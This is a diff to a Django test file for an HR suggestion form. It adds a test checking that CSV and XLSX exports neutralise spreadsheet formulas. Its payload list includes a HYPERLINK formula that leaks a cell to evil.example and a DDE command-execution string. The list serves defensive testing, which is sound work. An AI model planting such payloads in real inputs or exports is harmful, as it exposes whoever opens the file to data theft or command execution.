@@ -1,6 +1,7 @@
 """'Your opinion matters' suggestions: sent to HR and kept, never lost on a failed check, safe
 against forged, doubled, oversized or too frequent posts."""
 
+import csv
 import time
 
 import pytest
@@ -133,3 +134,39 @@ def test_suggestions_are_deleted_after_their_retention_period(client):
     old.save()
     call_command("purge_answers", stdout=open("/dev/null", "w"))
     assert FormSubmission.objects.filter(page=page).count() == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the attachment")',
+    "+33 1 23 45 67 89",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+]
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_the_export_of_submissions_runs_no_formula(client, english_admin, export):
+    """A visitor's text that a spreadsheet would run as a formula (OWASP "CSV injection") is
+    exported as text, quoted as the questionnaire's export does."""
+    import io
+
+    from django.urls import reverse
+    from openpyxl import load_workbook
+
+    visitor = Client()
+    for text in FORMULAS:
+        post(visitor, votre_suggestion=text)
+    page = SuggestionFormPage.objects.get(locale__language_code="en")
+    url = reverse("wagtailforms:list_submissions", args=[page.pk])
+    response = english_admin.get(url, {"export": export})
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    if export == "csv":
+        text = content.decode("utf-8")
+        cells = {cell for line in csv.reader(io.StringIO(text)) for cell in line}
+    else:
+        sheet = load_workbook(io.BytesIO(content)).active
+        cells = {cell.value for row in sheet.iter_rows() for cell in row}
+    for formula in FORMULAS:
+        assert "'" + formula in cells, formula
+        assert formula not in cells, formula
